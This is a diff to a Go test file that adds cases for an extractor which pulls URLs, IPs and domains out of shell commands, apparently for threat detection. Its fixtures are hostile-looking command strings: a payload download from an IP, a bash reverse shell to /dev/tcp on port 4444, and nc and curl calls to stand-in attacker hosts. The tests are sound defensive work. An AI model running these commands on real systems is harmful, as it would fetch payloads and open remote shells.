@@ -36,6 +36,8 @@ func TestIndicators(t *testing.T) {
 	}{
 		{"a URL and its host", ran("curl -o /tmp/x http://45.9.148.1/a.sh"), []string{"url http://45.9.148.1/a.sh", "ip 45.9.148.1"}},
 		{"a name in capitals", ran("ping EVIL.Example.ORG."), []string{"domain evil.example.org"}},
+		{"a URL in capitals and with the root's dot", ran("wget HTTP://EVIL.Shop.IO.:8080/A; curl http://evil.shop.io:8080/A"),
+			[]string{"url http://evil.shop.io:8080/A", "domain evil.shop.io"}},
 		{"the worst first", ran("curl http://mirror.shop.io/list; bash -i >& /dev/tcp/45.9.148.1/4444 0>&1"),
 			[]string{"ip 45.9.148.1", "url http://mirror.shop.io/list", "domain mirror.shop.io"}},
 		{"of a URL with a query the host", ran("curl https://collect.evil.org/in?d=a"), []string{"domain collect.evil.org"}},
@@ -82,7 +84,7 @@ func TestNeverAsked(t *testing.T) {
 		"127.0.0.1", "0.0.0.0", "169.254.169.254", "169.254.1.1", "100.64.0.1", "100.100.100.200",
 		"192.0.2.1", "198.51.100.7", "203.0.113.9", "198.18.0.1", "224.0.0.1", "239.1.1.1", "240.0.0.1", "255.255.255.255", "192.0.0.8",
 		"[::1]", "[fe80::1]", "[fd20:ce::254]", "[ff02::1]", "[2001:db8::1]", "[3fff::1]", "[::ffff:10.0.0.1]",
-		"metadata.google.internal", "metadata.goog", "metadata", "localhost", "db", "db.local", "db.corp", "x.test", "x.example", "x.onion",
+		"metadata.google.internal", "metadata.goog", "metadata", "localhost", "db", "db.local", "db.corp", "db.consul", "api.svc.cluster-a", "nas.fritzbox", "db.intern", "x.test", "x.example", "x.onion",
 		"storage.googleapis.com", "run.googleapis.com", "eu.gcr.io", "europe-docker.pkg.dev", "accounts.google.com", "packages.cloud.google.com",
 	} {
 		for _, text := range []string{"curl http://" + host + "/x", "curl https://" + host + ":8443/x", "nc " + strings.Trim(host, "[]") + " 4444"} {
